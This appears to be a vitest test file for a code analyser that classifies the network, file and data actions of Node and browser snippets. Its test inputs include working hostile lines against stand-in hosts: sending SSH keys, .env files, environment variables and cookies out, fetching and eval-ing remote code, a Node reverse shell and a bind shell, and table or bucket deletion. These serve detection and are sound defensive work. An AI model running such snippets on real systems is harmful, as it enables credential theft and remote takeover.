import { describe, expect, test } from 'vitest'
import { summary } from '../harness.ts'

/** Whom programs for Node and browsers contact: the web, sockets, mail, databases, services. */

describe('the web', () => {
  for (const [code, expected] of [
    [`fetch('https://api.example/x').then(r => r.json()).then(console.log)`, ['fetch https://api.example/x']],
    [`await fetch(\`https://x.example/\${id}\`)`, ['fetch https://x.example/']],
    [`await fetch('https://x.example/', { method: 'POST', body: JSON.stringify({ a: 1 }) })`, ['send https://x.example/']],
    [
      `await fetch('https://x.example/', { method: 'POST', body: require('fs').readFileSync('/home/me/.ssh/id_rsa') })`,
      ['read /home/me/.ssh/id_rsa', 'send https://x.example/'],
    ],
    [`await fetch('https://x.example/', { method: 'POST', body: JSON.stringify(process.env) })`, ['read *', 'send https://x.example/']],
    [`await fetch('https://x.example/?k=' + process.env.TOKEN)`, ['read TOKEN', 'send https://x.example/?k=']],
    [`const axios = require('axios'); axios.get('https://x.example/')`, ['fetch https://x.example/']],
    [`const axios = require('axios'); axios.post('https://x.example/', { a: 1 })`, ['send https://x.example/']],
    [`const axios = require('axios'); axios({ url: 'https://x.example/', method: 'PUT', data: 1 })`, ['send https://x.example/']],
    [`const axios = require('axios'); axios.delete('https://x.example/1')`, ['send https://x.example/1']],
    [`import got from 'got'; await got('https://x.example/').json()`, ['fetch https://x.example/']],
    [`import got from 'got'; await got.post('https://x.example/', { json: process.env })`, ['send https://x.example/']],
    [`require('https').get('https://x.example/', r => r.on('data', d => console.log(d)))`, ['fetch https://x.example/']],
    [
      `require('https').get('https://x.example/', r => r.on('data', d => eval(d.toString())))`,
      ['execute code:remote https://x.example/', 'fetch https://x.example/'],
    ],
    [`require('http').get({ hostname: 'x.example', port: 8080, path: '/a' })`, ['fetch x.example:8080/a']],
    [
      `const q = require('https').request({ host: 'x.example', method: 'POST' }); q.write(require('fs').readFileSync('.env')); q.end()`,
      ['read .env', 'send x.example'],
    ],
    [
      `eval(await (await fetch('http://x.example/a.js')).text())`,
      ['execute code:remote http://x.example/a.js', 'fetch http://x.example/a.js'],
    ],
    [
      `fetch('http://x.example/a.js').then(r => r.text()).then(eval)`,
      ['execute code:remote http://x.example/a.js', 'fetch http://x.example/a.js'],
    ],
    [
      `fetch('http://x.example/a.js').then(r => r.text()).then(t => new Function(t)())`,
      ['execute code:remote http://x.example/a.js', 'fetch http://x.example/a.js'],
    ],
    [
      `require('child_process').execSync(await (await fetch('http://x.example/c')).text())`,
      ['execute code:remote http://x.example/c', 'fetch http://x.example/c'],
    ],
    [
      `fs.writeFileSync('/tmp/a.sh', await (await fetch('http://x.example/a.sh')).text()); require('child_process').execSync('sh /tmp/a.sh')`,
      ['$ sh /tmp/a.sh', 'execute code:downloaded http://x.example/a.sh', 'fetch http://x.example/a.sh', 'write /tmp/a.sh'],
    ],
    [
      `require('https').get('http://x.example/a', r => r.pipe(require('fs').createWriteStream('/tmp/a')))`,
      ['fetch http://x.example/a', 'write /tmp/a'],
    ],
    [`const r = require('request'); r('https://x.example/', (e, r, b) => console.log(b))`, ['fetch https://x.example/']],
    [`const x = new XMLHttpRequest(); x.open('POST', 'https://x.example/'); x.send(document.cookie)`, ['send https://x.example/']],
    [`navigator.sendBeacon('https://x.example/', data)`, ['send https://x.example/']],
    [`new WebSocket('wss://x.example/')`, ['fetch wss://x.example/']],
    [`await fetch(new URL('/a', 'https://x.example'))`, ['fetch https://x.example/a']],
    [`const { data } = await axios.get('https://x.example/')`, ['fetch https://x.example/']],
    [`$.get('https://x.example/'); $.ajax({ url: 'https://y.example/' }); fetch('https://z.example/')`, ['fetch https://z.example/']],
  ] as const)
    test(code, () => expect(summary('node', code)).toEqual(expected))
})

describe('sockets', () => {
  for (const [code, expected] of [
    [`require('net').connect(80, '10.0.0.1').write('x')`, ['send net:socket 10.0.0.1:80']],
    [`const s = require('net').connect({ port: 80, host: '10.0.0.1' }); s.end('x')`, ['send net:socket 10.0.0.1:80']],
    [
      '(function(){var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);var client=new net.Socket();client.connect(4444,"10.0.0.1",function(){client.pipe(sh.stdin);sh.stdout.pipe(client);sh.stderr.pipe(client);});return /a/;})();',
      ['> /bin/sh', 'execute net:reverse-shell 10.0.0.1:4444', 'send net:socket 10.0.0.1:4444'],
    ],
    [
      `require('net').createServer(s => { const sh = require('child_process').spawn('sh'); s.pipe(sh.stdin); sh.stdout.pipe(s) }).listen(4444)`,
      ['> sh', 'execute net:bind-shell'],
    ],
    [
      `const s = require('net').connect(1, 'h.example'); s.on('data', d => require('child_process').exec(d.toString()))`,
      ['execute code:remote h.example:1', 'execute net:reverse-shell h.example:1', 'send net:socket h.example:1'],
    ],
    [
      `const s = require('net').connect(1, 'h.example'); s.write(require('fs').readFileSync('/etc/shadow'))`,
      ['read /etc/shadow', 'send net:socket h.example:1'],
    ],
    [
      `require('child_process').spawn('sh', [], { stdio: [require('net').connect(1, 'h.example')] })`,
      ['> sh', 'execute net:reverse-shell h.example:1', 'send net:socket h.example:1'],
    ],
  ] as const)
    test(code, () => expect(summary('node', code)).toEqual(expected))
})

describe('others', () => {
  for (const [code, expected] of [
    [`const t = require('nodemailer').createTransport({}); t.sendMail({ to: 'b@x.example', text: 'x' })`, ['send mail:send b@x.example']],
    [
      `const t = require('nodemailer').createTransport({}); t.sendMail({ to: ['a@x.example', 'b@x.example'], text: require('fs').readFileSync('.env') })`,
      ['read .env', 'send mail:send a@x.example', 'send mail:send b@x.example'],
    ],
    [`const db = new (require('better-sqlite3'))('a.db'); db.exec('DROP TABLE users')`, ['delete sql:drop a.db']],
    [`const { Client } = require('pg'); const c = new Client(); c.query('DELETE FROM users')`, ['delete sql:delete']],
    [`const c = require('mysql2').createConnection({}); c.query('TRUNCATE users')`, ['delete sql:truncate']],
    ['await prisma.$executeRaw`DROP TABLE users`', ['delete sql:drop']],
    [`await sequelize.query('UPDATE t SET a = 1')`, ['write sql:update']],
    ['await mongoose.connection.dropDatabase()', ['change sql:drop']],
    ['redis.flushall()', ['change sql:flush']],
    [
      `const s3 = new AWS.S3(); s3.putObject({ Bucket: 'b', Key: 'k', Body: require('fs').readFileSync('.env') })`,
      ['read .env', 'send cloud:upload b'],
    ],
    [`s3.deleteBucket({ Bucket: 'prod' })`, ['delete cloud:delete prod']],
    [
      `const stripe = require('stripe')('sk'); await stripe.charges.create({ amount: 100, currency: 'usd', customer: 'cus_1' })`,
      ['pay pay:charge cus_1'],
    ],
    [`await stripe.refunds.create({ charge: 'ch_1' })`, ['pay pay:refund unknown']],
    [`await web.chat.postMessage({ channel: '#general', text: 'x' })`, ['send message:send #general']],
    [`bot.sendMessage(chatId, 'x')`, ['send message:send']],
    [`await wallet.sendTransaction({ to: '0xabc', value: 1 })`, ['pay pay:transfer 0xabc']],
  ] as const)
    test(code, () => expect(summary('node', code)).toEqual(expected))
})
